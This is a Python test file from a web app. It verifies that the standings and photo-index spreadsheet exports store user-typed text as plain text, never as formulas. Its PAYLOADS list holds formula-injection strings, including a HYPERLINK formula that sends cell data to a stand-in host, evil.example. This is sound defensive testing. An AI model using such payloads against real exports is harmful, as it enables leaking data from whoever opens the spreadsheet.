"""The exports never hand a spreadsheet a formula: whatever people typed reads back as text."""

import io
import zipfile

from openpyxl import load_workbook
from PIL import Image

from webapp.services import judging, submissions
from webapp.storage import LocalPhotoStore

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
)


def photo_from(device: str) -> bytes:
    """A JPEG whose camera model (EXIF) is the given text, as a phone could write it."""
    exif = Image.Exif()
    exif[0x0110] = device  # Model
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(out, "JPEG", exif=exif)
    return out.getvalue()


def cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_only_text_and_numbers(data: bytes) -> list:
    """No cell is a formula, in openpyxl's reading and in the file's own XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        sheets = [xlsx.read(n) for n in xlsx.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = load_workbook(io.BytesIO(data))
    found = cells(book)
    assert {cell.data_type for cell in found} <= {"s", "n", "d"}
    return found


def test_typed_text_reads_back_as_text_in_both_exports(app, make, session, clock, web):
    owner = make.account("ani@example.org")
    event = make.event(owner)
    store = LocalPhotoStore(app.config["SETTINGS"]["storage"]["uploads_dir"])
    for n, payload in enumerate(PAYLOADS):
        group = make.group(event, f"{payload} {n}" if payload[0] in "\t\r" else payload)
        task = make.task(event, "photo", title=payload, points=10, check={"review": "auto"})
        clock.advance(minutes=1)
        submissions.submit(
            session,
            participant=make.participant(group, name=f"Peserta {n}"),
            task_id=task.id,
            sent=submissions.Sent(key=f"k{n}", photo=photo_from(payload)),
            now=clock(),
            store=store,
        )
        judging.add_adjustment(
            session,
            event=event,
            group_id=group.id,
            points=-1,
            reason=payload,
            actor=owner,
            now=clock(),
        )
        session.commit()
    web.login("ani@example.org")

    standings = web.get(f"/organiser/events/{event.id}/export/standings.xlsx").get_data()
    archive = web.get(f"/organiser/events/{event.id}/export/photos.zip").get_data()
    with zipfile.ZipFile(io.BytesIO(archive)) as photos:
        index = photos.read(next(n for n in photos.namelist() if n.endswith(".xlsx")))

    for data in (standings, index):
        values = {cell.value for cell in assert_only_text_and_numbers(data)}
        typed = [p for p in PAYLOADS if p[0] not in "\t\r"]  # reasons lose their whitespace
        assert set(typed) <= values, set(typed) - values
    photo_cells = assert_only_text_and_numbers(index)
    assert all(c.quotePrefix for c in photo_cells if c.value == PAYLOADS[0])
    assert any(c.value == -1 for c in assert_only_text_and_numbers(standings))  # a number
